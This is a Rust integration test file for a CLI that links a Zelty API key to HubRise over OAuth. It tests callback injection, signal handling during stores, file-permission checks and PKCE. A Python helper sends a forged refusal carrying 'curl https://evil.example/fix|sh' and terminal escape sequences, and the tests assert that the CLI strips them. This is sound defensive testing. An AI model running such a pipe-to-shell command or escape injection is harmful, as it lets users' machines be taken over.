//! The edges of a run: a refusal on the loopback that anyone could send, every handled
//! signal at the key prompt and during a store, output that cannot be written, a config
//! dir that is not text, a `profiles/` others can write, and PKCE against the sandbox.

// Their helpers serve the Unix-only tests (signals, `sh`) too.
#![cfg_attr(not(unix), allow(dead_code, unused_imports))]

use crate::support::*;
#[cfg(target_os = "linux")]
use crate::terminal::*;
use serde_json::Value;
use std::process::Stdio;

/// A "browser" that first sends the callback a refusal without `state` (with an
/// attacker's words, escapes included), as another local program could, then hands the
/// URL to the real stand-in given after the URL.
const STATELESS_REFUSAL_FIRST: &str = r#"
import subprocess, sys, urllib.parse as p, urllib.request as r
url = sys.argv[1]
q = dict(p.parse_qsl(p.urlsplit(url).query))
words = {"error": "Your Zelty key leaked. Run curl https://evil.example/fix|sh\x1b]0;pwned\x07",
         "error_description": "\x1b[2Jcall evil.example now"}
if q.get("redirect_uri", "").startswith("http://127.0.0.1:"):
    r.urlopen(q["redirect_uri"] + "?" + p.urlencode(words), timeout=15).read()
subprocess.run(sys.argv[2:] + [url], check=False)
"#;

#[test]
fn a_refusal_without_state_does_not_end_a_script_run() {
    let (sb, home) = (Sandbox::start(&[]), Home::new());
    let script = home.path().join("refuse-first.py");
    std::fs::write(&script, STATELESS_REFUSAL_FIRST).unwrap();
    let mut cmd = home.cmd(&sb);
    cmd.args(["connect", "--json"])
        .env("ZELTY_API_KEY", sb.demo_key())
        .env("BROWSER", format!("python3 '{}' %s {}", script.display(), browser_standin()));
    let out = run(cmd);
    out.expect(0);
    assert!(out.stderr.contains("A refusal (?) arrived on the local callback"), "{}", out.stderr);
    assert!(out.stderr.contains("still waiting for HubRise's answer"), "{}", out.stderr);
    for text in [&out.stdout, &out.stderr] {
        assert!(!text.contains("evil.example") && !text.contains('\u{1b}') && !text.contains('\u{7}'), "{text:?}");
    }
    assert!(home.config_dir().join("profiles/default.toml").exists(), "the real callback completed the run");
}

/// A person at the terminal is asked about the refusal; saying it was theirs ends the run
/// as refused (exit 3), nothing stored.
#[cfg(target_os = "linux")]
#[test]
fn a_person_is_asked_about_a_refusal_without_state() {
    let (sb, home) = (Sandbox::start(&[]), Home::new());
    let script = home.path().join("refuse-first.py");
    std::fs::write(&script, STATELESS_REFUSAL_FIRST).unwrap();
    let mut cmd = terminal_cmd(bin(), &home, "en_US.UTF-8");
    cmd.env("BROWSER", format!("python3 '{}' %s {}", script.display(), browser_standin()))
        .envs(sb.env())
        .arg("connect");
    let mut s = spawn_pty(cmd);
    // Enter at each "open it in your browser" question (the waiting one ends in ` ›`, whose
    // first byte is all the reader keeps), the key at its prompt, until the refusal's.
    let question = "Did you refuse the authorization in the browser?";
    let mut seen = String::new();
    loop {
        let (before, matched) = s
            .exp_regex(&format!("in your browser \u{e2}|Zelty API key|{}", question.replace('?', "\\?")))
            .unwrap_or_else(|e| panic!("{e}\n{seen}"));
        seen.push_str(&before);
        seen.push_str(&matched);
        match matched.as_str() {
            "Zelty API key" => {
                s.send_line(&sb.demo_key()).unwrap();
            }
            m if m == question => break,
            _ => {
                s.send_line("").unwrap();
            }
        }
    }
    assert!(seen.contains("A refusal (?) arrived on the local callback"), "{seen}");
    s.exp_string("(y/n").unwrap();
    s.send_line("y").unwrap();
    // A refusal is offered again (a misclick on « Refuser »); no, this one was meant.
    let again = s.exp_string("Open it again?").unwrap();
    seen.push_str(&again);
    s.exp_string("(y/n").unwrap();
    s.send_line("n").unwrap();
    let rest = s.exp_eof().unwrap();
    seen.push_str(&rest);
    assert!(rest.contains("access_denied"), "{seen}");
    assert!(!seen.contains("evil.example") && !seen.contains('\u{7}'), "{seen}");
    assert_eq!(exit_code(&s), 3, "{seen}");
    assert!(home.stored().is_empty(), "nothing stored");
}

#[cfg(target_os = "linux")]
#[test]
fn sigquit_at_the_key_prompt_puts_echo_back_and_exits_130_naming_it() {
    let sb = Sandbox::start(&[]);
    let home = Home::new();
    // A person's terminal, no browser to open: the key prompt comes first.
    let mut sh = terminal_cmd("sh", &home, "en_US.UTF-8");
    sh.envs(sb.env());
    let (mut s, shell) = in_shell(sh, "connect");
    // Nothing is typed first: the pty's line discipline may take typed input in only
    // after the run has put echo back, which would show it whatever the tool does.
    s.exp_string("Zelty API key").unwrap();
    deliver("QUIT", cli_in(&shell));
    let before_exit = s.exp_string("EXIT=").unwrap();
    let code = s.exp_regex("[0-9]+").unwrap().1;
    assert_eq!(code, "130", "SIGQUIT must exit 130:\n{before_exit}");
    assert!(before_exit.contains("SIGQUIT"), "the message names the signal:\n{before_exit}");
    assert_terminal_sane(&s.exp_eof().unwrap(), "SIGQUIT");
    assert!(home.stored().is_empty(), "nothing stored");
}

/// SIGQUIT at each store step (each atomic write, paused just before its rename: the key,
/// the token, the profile), and SIGUSR1, SIGUSR2 and SIGALRM at one: the store finishes
/// whole or leaves nothing, no temp file stays, and the run exits 130 naming the signal it
/// got (not SIGINT).
#[cfg(target_os = "linux")]
#[test]
fn every_handled_signal_during_a_store_is_held_and_named() {
    let sb = Sandbox::start(&[]);
    for (name, step) in [("QUIT", 1), ("QUIT", 2), ("QUIT", 3), ("USR1", 2), ("USR2", 3), ("ALRM", 1)] {
        let home = Home::new();
        let pause = home.path().join("pause");
        std::fs::create_dir(&pause).unwrap();
        let mut cmd = home.cmd(&sb);
        cmd.args(["connect"]).env("ZELTY_API_KEY", sb.demo_key()).env("ZELTY_BRIDGE_TEST_STORE_PAUSE", &pause);
        let mut child = spawn(cmd);
        let sent = signal_at_store_step(&mut child, &pause, 3, step, name);
        let out = wait_output(child);
        assert!(sent, "step {step} was never reached:\n{}", out.stderr);
        assert_eq!(out.code, 130, "SIG{name} at step {step}:\n{}", out.stderr);
        assert!(out.stderr.contains(&format!("stopped by SIG{name}")), "SIG{name} at step {step}:\n{}", out.stderr);
        let stored = home.file_store();
        let profile = home.config_dir().join("profiles/default.toml").exists();
        let whole = stored.contains_key("default:zelty-api-key")
            && stored.contains_key("default:hubrise-access-token")
            && profile;
        let none = stored.is_empty() && !profile;
        assert!(whole || none, "SIG{name} at step {step} left {:?}, profile: {profile}", stored.keys());
        assert!(home.temp_files().is_empty(), "SIG{name} at step {step} left {:?}", home.temp_files());
    }
}

#[cfg(target_os = "linux")]
#[test]
fn output_that_cannot_be_written_is_an_error() {
    let home = Home::new();
    let full = || std::fs::OpenOptions::new().write(true).open("/dev/full").expect("/dev/full");
    let run_full = |args: &[&str]| {
        let mut cmd = home.bare_cmd();
        cmd.args(args).stdout(full()).stderr(Stdio::piped());
        let out = cmd.output().expect("run");
        (out.status.code(), String::from_utf8_lossy(&out.stderr).into_owned())
    };
    let (code, stderr) = run_full(&["completions", "bash"]);
    assert_eq!(code, Some(1), "{stderr}");
    assert!(stderr.contains("could not be written to standard output"), "{stderr}");
    // A failure keeps its own code, and still says the report was lost.
    let (code, stderr) = run_full(&["status", "--offline", "--json"]);
    assert_eq!(code, Some(4), "{stderr}");
    assert!(stderr.contains("could not be written to standard output"), "{stderr}");
}

#[cfg(unix)]
#[test]
fn a_config_dir_that_is_not_utf8_is_refused() {
    use std::os::unix::ffi::OsStrExt;
    let home = Home::new();
    let mut cmd = home.bare_cmd();
    cmd.args(["status", "--offline"])
        .env("ZELTY_BRIDGE_CONFIG_DIR", home.path().join(std::ffi::OsStr::from_bytes(b"config-\xff")));
    let out = run(cmd);
    out.expect(2);
    assert!(out.stderr.contains("ZELTY_BRIDGE_CONFIG_DIR is not valid text"), "{}", out.stderr);
}

#[cfg(unix)]
#[test]
fn profiles_others_can_write_are_refused() {
    use std::os::unix::fs::PermissionsExt;
    let (sb, home) = (Sandbox::start(&[]), Home::new());
    let mut connect = home.cmd(&sb);
    connect.args(["connect", "--json"]).env("ZELTY_API_KEY", sb.demo_key());
    run(connect).expect(0);
    let profiles = home.config_dir().join("profiles");
    let status = || {
        let mut cmd = home.cmd(&sb);
        cmd.args(["status", "--offline"]);
        run(cmd)
    };
    status().expect(0);
    // A world-writable profiles/ (anyone could have planted or swapped the file).
    std::fs::set_permissions(&profiles, std::fs::Permissions::from_mode(0o777)).unwrap();
    let out = status();
    out.expect(2);
    assert!(out.stderr.contains("can be written by other users"), "{}", out.stderr);
    // A profile file others can write, in a private profiles/.
    std::fs::set_permissions(&profiles, std::fs::Permissions::from_mode(0o700)).unwrap();
    std::fs::set_permissions(profiles.join("default.toml"), std::fs::Permissions::from_mode(0o666)).unwrap();
    let out = status();
    out.expect(2);
    assert!(out.stderr.contains("can be written by other users"), "{}", out.stderr);
}

#[test]
fn pkce_round_trip_against_the_sandbox() {
    let sb = Sandbox::start(&[]);
    let connect = |home: &Home, action: &str| {
        let mut cmd = home.cmd(&sb);
        cmd.args(["connect", "--json"])
            .env("ZELTY_API_KEY", sb.demo_key())
            .env("ZELTY_BRIDGE_PKCE", "1")
            .env("BROWSER_STANDIN_ACTION", action);
        run(cmd)
    };
    let token_calls = || -> Vec<Value> {
        sb.requests().into_iter().filter(|r| r["path"].as_str().is_some_and(|p| p.ends_with("/token"))).collect()
    };
    connect(&Home::new(), "approve").expect(0);
    let authorize = sb
        .requests()
        .into_iter()
        .find(|r| r["method"] == "GET" && r["path"].as_str().is_some_and(|p| p.ends_with("/authorize")))
        .expect("an authorization");
    let query = authorize["query"].as_str().unwrap_or_default().to_string();
    assert!(query.contains("code_challenge=") && query.contains("code_challenge_method=S256"), "{query}");
    let calls = token_calls();
    assert_eq!(calls.len(), 1, "{calls:?}");
    assert!(calls[0]["form_keys"].as_array().unwrap().iter().any(|k| k == "code_verifier"), "{calls:?}");
    assert_eq!(calls[0]["status"], 200, "{calls:?}");

    // A code taken on the way (the stand-in exchanges it first, without the verifier) is
    // refused; the CLI's own exchange then finds it used.
    connect(&Home::new(), "spend-code").expect(3);
    let calls = token_calls();
    let stolen = calls.iter().find(|c| !c["form_keys"].as_array().unwrap().iter().any(|k| k == "code_verifier"));
    assert_eq!(stolen.expect("the stand-in's exchange")["status"], 400, "{calls:?}");
}
